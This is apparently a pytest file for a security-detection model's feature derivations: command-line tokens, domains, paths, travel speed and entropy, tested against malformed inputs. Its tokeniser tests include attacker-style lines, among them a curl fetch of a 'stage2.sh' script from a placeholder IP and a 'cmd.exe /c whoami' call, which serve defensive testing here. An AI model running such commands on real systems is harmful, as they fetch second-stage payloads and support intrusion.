"""What each derived field is made of: hostile cells give something or nothing, never an error."""

from __future__ import annotations

import math
from itertools import pairwise

import numpy as np
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from models.features.derive import DERIVATIONS
from models.features.derive.command_tokens import MOST_TOKEN_LETTERS, MOST_TOKENS, command_tokens
from models.features.derive.domain import domain, subdomain
from models.features.derive.paths import file_name, folder
from models.features.derive.travel import travel
from models.features.spec import FeatureSpec, Field
from models.features.values import read_values

NASTY = (
    "",
    " ",
    "\x00",
    "\r\n",
    '"' * 99,
    "'C:\\",
    "\\\\",
    "///",
    "....",
    "@",
    "://",
    "[::1]:",
    "a@b@c",
    "日本.example.jp",
    "ﬀ" * 70,
    "$1*",
    "a" * 65_536,
    "a " * 32_768,
    "." * 65_536,
    "\\" * 65_536,
    "\U0010ffff",
    "é́",
)
CELLS = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=80), st.text("aA0:/\\.@ -\"'=", max_size=60)))
TEXT = [name for name, found in DERIVATIONS.items() if found.reads == "text"]


def made(how: str, columns: list[list[str]]) -> list[object]:
    """What a function gives, with NaN as None."""
    found = DERIVATIONS[how].compute([pl.Series(cells, dtype=pl.String) for cells in columns]).to_list()
    return [None if isinstance(cell, float) and math.isnan(cell) else cell for cell in found]


@pytest.mark.parametrize("how", TEXT)
@settings(max_examples=60, deadline=None)
@given(cells=CELLS)
def test_any_cell_gives_what_it_gives_alone(how: str, cells: list[str]) -> None:
    width = DERIVATIONS[how].least
    together = made(how, [cells] * width)
    assert len(together) == len(cells)
    assert together == [made(how, [[cell]] * width)[0] for cell in cells]


@pytest.mark.parametrize("how", TEXT)
def test_nothing_comes_of_nothing(how: str) -> None:
    cells = [""] * 3
    assert made(how, [cells] * DERIVATIONS[how].least) in ([""] * 3, [None] * 3, [[]] * 3)
    assert made(how, [[]] * DERIVATIONS[how].least) == []


@pytest.mark.parametrize("how", DERIVATIONS)
def test_a_table_of_hostile_cells_can_be_read(how: str) -> None:
    found = DERIVATIONS[how]
    sources = tuple(f"source {at}" for at in range(found.least))
    table = pl.DataFrame(dict.fromkeys(sources, NASTY) | {f"__mv_{sources[0]}": ["$a$;$b$", *[""] * 21]})
    for kind in found.kinds:
        spec = FeatureSpec((Field("made", kind, how=how, of=sources),))  # type: ignore[arg-type]
        assert read_values(table, spec).count == len(NASTY)
        empty = read_values(table.clear(), spec)
        assert empty.count == 0


def test_each_value_of_several_is_derived() -> None:
    cells = {"to": ["ann@a.example.com", "bob@example.org\neve@example.org", ""]}
    table = pl.DataFrame({**cells, "__mv_to": ["$ann@a.example.com$;$x@example.net$", "", ""]})
    tokens = read_values(table, FeatureSpec((Field("domains", "multivalue", how="domain", of=("to",)),))).tokens[
        "domains"
    ]
    found = list(zip(tokens.rows.tolist(), tokens.values.texts.gather(tokens.values.at).to_list(), strict=True))
    assert found == [(0, "example.com"), (0, "example.net"), (1, "example.org")]


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("cmd.exe /c whoami", ["cmd.exe", "/c", "whoami"]),
        (r"C:\Windows\System32\CMD.EXE /C whoami", ["cmd.exe", "/c", "whoami"]),
        ("curl -s --max-time=30 https://203.0.113.7:8443/stage2.sh", ["curl", "-s", "--max-time", "#", "stage#.sh"]),
        ("svchost.exe -k netsvcs -p -s Schedule", ["svchost.exe", "-k", "netsvcs", "-p", "-s", "schedule"]),
        (r'rundll32 "C:\Program Files\A B\x64.dll",#1', ["rundll#", "x#.dll", "##"]),
        ("app {0b3f5d5e-1111-2222-3333-444455556666}", ["app", "<hex>"]),
        ("sha 9f86d081884c7d659a2feaa0c55ad015", ["sha", "<hex>"]),
        ("/usr/local/bin/a/very/long/Path9/ofNames run", ["ofnames", "run"]),
    ],
)
def test_command_lines_that_differ_in_detail_only_are_alike(line: str, wanted: list[str]) -> None:
    assert command_tokens([pl.Series([line])]).to_list() == [wanted]


def test_a_command_line_is_bounded() -> None:
    line = " ".join(f"{'x' * 90}{chr(97 + at % 26)}{chr(97 + at // 26)}y" for at in range(500))
    many = " ".join(chr(97 + at % 26) + chr(97 + at // 26) for at in range(500))
    for text in (line, many):
        tokens = command_tokens([pl.Series([text])])[0]
        assert len(tokens) <= MOST_TOKENS and max(map(len, tokens)) <= MOST_TOKEN_LETTERS
    assert len(command_tokens([pl.Series([many])])[0]) == MOST_TOKENS


@pytest.mark.parametrize(
    ("host", "registered", "before"),
    [
        ("www.bbc.co.uk", "bbc.co.uk", "www"),
        ("co.uk", "co.uk", ""),
        ("a.b.c.example.com.au", "example.com.au", "a.b.c"),
        ("evil.duckdns.org", "evil.duckdns.org", ""),
        ("x.evil.duckdns.org", "evil.duckdns.org", "x"),
        ("EXAMPLE.COM.", "example.com", ""),
        ("192.0.2.7:8080", "192.0.2.7", ""),
        ("http://[2001:db8::7]/", "2001:db8::7", ""),
        ("ftp://ann:pa@ss@files.example.org/a@b.example", "example.org", "files"),
    ],
)
def test_domains(host: str, registered: str, before: str) -> None:
    assert domain([pl.Series([host])]).to_list() == [registered]
    assert subdomain([pl.Series([host])]).to_list() == [before]


def test_paths_of_both_worlds() -> None:
    paths = pl.Series(
        [r"C:\Documents and Settings\ann\x.VBS", r"\\srv\share\a.doc", "/home/ann", "a/b", r"\\?\C:\a.exe"]
    )
    assert file_name([paths]).to_list() == ["x.vbs", "a.doc", "ann", "b", "a.exe"]
    assert folder([paths]).to_list() == [r"c:\documents and settings\*", r"\\srv\share", "/home", "a", r"\\?\c:"]


def speeds(*rows: tuple[float, ...]) -> list[float]:
    return travel([pl.Series(column) for column in zip(*rows, strict=True)]).to_list()


def test_where_a_place_or_a_time_is_unknown_there_is_no_speed() -> None:
    row = (52.5, 13.4, 7200.0, 40.7, -74.0, 3600.0)
    assert speeds(row) == [6386.0]
    for at in range(6):
        for bad in (math.nan, math.inf, 1e6 if at not in (2, 5) else -math.inf):
            assert np.isnan(speeds((*row[:at], bad, *row[at + 1 :]))).all(), (at, bad)


def test_an_exit_that_many_share_says_nothing_of_a_place() -> None:
    row = (52.5, 13.4, 7200.0, 40.7, -74.0, 3600.0)
    assert speeds((*row, math.nan)) == [6386.0] and np.isnan(speeds((*row, 1.0))).all()


def test_two_places_in_one_second_are_a_minute_apart() -> None:
    km_a_minute = speeds((0.0, 0.0, 100.0, 0.0, 10.0, 100.0))[0]
    assert km_a_minute == speeds((0.0, 0.0, 160.0, 0.0, 10.0, 100.0))[0] == pytest.approx(1111.95 * 60, rel=1e-4)


def test_near_places_are_the_same_one() -> None:
    assert speeds((0.0, 0.0, 60.0, 0.0, 0.89, 0.0)) == [0.0] and speeds((0.0, 0.0, 60.0, 0.0, 0.91, 0.0))[0] > 6000


@given(st.tuples(*[st.floats(-90, 90), st.floats(-180, 180), st.floats(0, 4e9)] * 2))
def test_a_way_and_its_reverse_are_as_fast(row: tuple[float, ...]) -> None:
    forth, back = speeds(row, (*row[3:], *row[:3]))
    assert forth == back and 0 <= forth <= 20_016 * 60


def test_entropy_of_random_letters_is_above_that_of_words() -> None:
    words, random = made("entropy", [["the quick brown fox jumps over", "kq7x0zv9j2w5f8hm1tq3ybdrc6gslu"]])
    assert words < random  # type: ignore[operator]


def test_letters_overlap() -> None:
    found = made("letters", [["example.com"]])[0]
    assert isinstance(found, list) and found[0] == "^ex" and found[-1] == "om$"
    assert all(one[1:] == two[:-1] for one, two in pairwise(found))


@pytest.mark.parametrize(
    ("how", "texts", "found"),
    [
        ("command_tokens", ["x" * 8192 + " tail"], ["x" * 64]),
        ("command_tokens", ["x" * 65], ["x" * 64]),
        ("domain", ["a" * 5000], "a" * 4096),
        ("subdomain", ["a" * 4093 + ".b.example"], ""),
        ("entropy", ["a" * 1024 + "b" * 1024], 0.0),
        ("letters", ["a" * 1000], ["^aa", *["aaa"] * 254, "aa$"]),
        ("pair", ["a" * 5000, "b" * 5000], f"{'a' * 4096} > {'b' * 4096}"),
        ("file_name", ["a" * 5000], "a" * 4096),
        ("folder", ["/" + "a" * 4095 + "/x"], "/"),
    ],
)
def test_of_a_very_long_text_only_the_beginning_is_read(how: str, texts: list[str], found: object) -> None:
    (one,) = DERIVATIONS[how].compute([pl.Series([text]) for text in texts]).to_list()
    assert one == found
